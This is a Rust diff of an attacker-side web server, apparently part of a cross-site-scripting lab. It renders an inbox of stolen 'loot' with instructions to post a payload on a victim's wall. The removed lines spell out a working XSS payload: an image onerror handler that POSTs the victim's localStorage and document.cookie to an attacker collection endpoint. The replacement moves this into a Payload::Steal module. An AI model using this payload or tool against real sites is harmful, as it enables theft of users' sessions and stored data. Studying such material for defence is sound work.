@@ -11,6 +11,7 @@ use leptos::prelude::*;
 
 use super::Attacker;
 use super::page::document;
+use super::payload::Payload;
 use super::replay::Stolen;
 
 /// `GET /campaigns/{campaign}`: for a person as a page, for a program as JSON. Whoever knows the name may read it.
@@ -26,7 +27,7 @@ pub(super) async fn inbox(
     if accept.starts_with("application/json") {
         return Json(campaign).into_response();
     }
-    let collect = format!("http://127.0.0.1:{}/collect/{name}", attacker.port);
+    let payload = Payload::Steal.html(&attacker.collect_address(&name));
     let replays = format!("/campaigns/{name}/replays");
     let empty = campaign.loot.is_empty().then_some("Nothing yet.");
     let loot = campaign.loot.into_iter().rev().map(|loot| view! { <Piece loot action=replays.clone()/> });
@@ -35,7 +36,7 @@ pub(super) async fn inbox(
         view! {
             <h1>"Inbox"</h1>
             <p>"Post this on the victim’s wall. Whatever a script can read there comes here."</p>
-            <pre>{payload(&collect)}</pre>
+            <pre>{payload}</pre>
             <p>{empty}</p>
             {loot.collect_view()}
             <h2>"Tried out"</h2>
@@ -44,14 +45,6 @@ pub(super) async fn inbox(
         },
     )
     .into_response()
-}
-
-/// An image that fails to load, and says what to do then: a `<script>` that is put into a page later would not run.
-fn payload(collect: &str) -> String {
-    format!(
-        "<img src=\"/no-such-image\" alt=\"\" onerror=\"fetch('{collect}',{{method:'POST',mode:'no-cors',\
-         body:JSON.stringify({{localStorage,cookie:document.cookie}})}})\">"
-    )
 }
 
 /// One piece of loot, and a console to try it with.
